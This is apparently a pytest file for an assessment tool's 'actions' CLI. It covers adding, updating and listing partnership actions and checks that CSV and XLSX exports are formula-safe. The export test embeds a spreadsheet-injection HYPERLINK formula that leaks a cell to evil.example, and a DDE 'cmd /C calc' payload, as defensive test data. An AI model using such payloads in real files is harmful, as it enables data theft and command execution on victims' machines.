"""``assessment actions list|add|update`` on SQLite and PostgreSQL, and the formula-safe actions export."""

from __future__ import annotations

import json

import pytest
from click.testing import CliRunner

from assessment.cli import main
from assessment.storage import services as s
from tests.adversarial.test_csv_injection import formula_lines, read_csv_rows, read_xlsx_cells

ADMIN = "board.secretary@example.org"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"evidence")'


@pytest.fixture
def run(db, tmp_path):
    env = {"ASSESSMENT_DATABASE_URL": db.engine.url.render_as_string(hide_password=False),
           "ASSESSMENT_DATA_DIR": str(tmp_path / "data"), "ASSESSMENT_BOOTSTRAP_RESAMPLES": "200"}
    runner = CliRunner()

    def invoke(*args, ok: bool = True):
        result = runner.invoke(main, [str(a) for a in args], env=env)
        if ok:
            assert result.exit_code == 0, (result.output, result.exception)
        return result

    return invoke


@pytest.fixture
def kent(db, mini_v1, responses_csv):
    with db.sessions.begin() as session:
        s.publish_questionnaire(session, mini_v1, actor=ADMIN)
        s.add_partnership(session, "kent", "Kent and Medway crisis care partnership", members=["kent"], actor=ADMIN)
        s.create_round(session, "kent", "2026-H1", questionnaire=mini_v1.id, version=mini_v1.version, actor=ADMIN)
        s.open_round(session, "kent-2026-h1", actor=ADMIN)
        s.import_responses(session, "kent-2026-h1", responses_csv().encode(), actor=ADMIN)
        s.close_round(session, "kent-2026-h1", actor=ADMIN)
    return "kent"


def test_add_update_and_list_as_json(run, kent):
    added = json.loads(run("actions", "add", "--partnership", kent, "--domain", "triage", "--item",
                           "triage.clinician", "--what", "Clinician in the control room on Friday and Saturday "
                           "nights", "--owner", "Mental health trust", "--target-level", "3", "--due", "2026-09-30",
                           "--format", "json", "--actor", "lead@kent.example.org").output)
    assert added["round"] == "kent-2026-h1" and added["status"] == "planned" and added["due"] == "2026-09-30"
    assert added["created_by"] == "lead@kent.example.org"
    result = run("actions", "update", added["action"], "--status", "in-progress", "--notes", "Rota agreed")
    assert result.output.startswith(f"updated action {added['action']} (kent, triage): in progress")
    listed = json.loads(run("actions", "list", "--partnership", kent, "--format", "json").output)
    assert [(a["action"], a["status"], a["notes"], a["verdict"], a["target_met"]) for a in listed] == [
        (added["action"], "in progress", "Rota agreed", "", None)]  # the next round has not closed
    assert json.loads(run("actions", "list", "--partnership", kent, "--status", "done", "--format", "json").output) == []
    assert "triage.clinician" in run("actions", "list", "--partnership", kent).output


def test_a_bad_action_names_every_field_and_exits_1(run, kent):
    result = run("actions", "add", "--partnership", kent, "--domain", "triage", "--what", "x", "--owner", "ICB",
                 "--target-level", "9", "--due", "next week", ok=False)
    assert result.exit_code == 1
    assert "at target_level: target level '9'" in result.output and "at due:" in result.output
    assert run("actions", "update", "12345", "--status", "done", ok=False).exit_code == 1
    assert run("actions", "update", "1", ok=False).exit_code == 2  # nothing to change: a usage error


def test_the_actions_export_is_formula_safe(run, kent, tmp_path):
    run("actions", "add", "--partnership", kent, "--domain", "governance", "--what", HYPERLINK, "--owner",
        "@board", "--target-level", "3", "--due", "2026-06-30", "--notes", "ok\r=cmd|' /C calc'!A0")
    out = tmp_path / "actions.csv"
    run("actions", "list", "--partnership", kent, "--format", "csv", "--out", out)
    rows = read_csv_rows(out.read_bytes())
    assert len(rows) == 2 and len({len(r) for r in rows}) == 1
    assert formula_lines(cell for row in rows for cell in row) == []
    what = rows[1][rows[0].index("what")]
    assert what == "'" + HYPERLINK  # kept as written, behind the apostrophe
    book = tmp_path / "actions.xlsx"
    run("actions", "list", "--partnership", kent, "--format", "xlsx", "--out", book)
    cells = read_xlsx_cells(book.read_bytes())
    assert formula_lines(value for _, value in cells) == []
    assert "'" + HYPERLINK in [value for _, value in cells]
    assert run("actions", "list", "--partnership", kent, "--format", "xlsx", ok=False).exit_code == 2
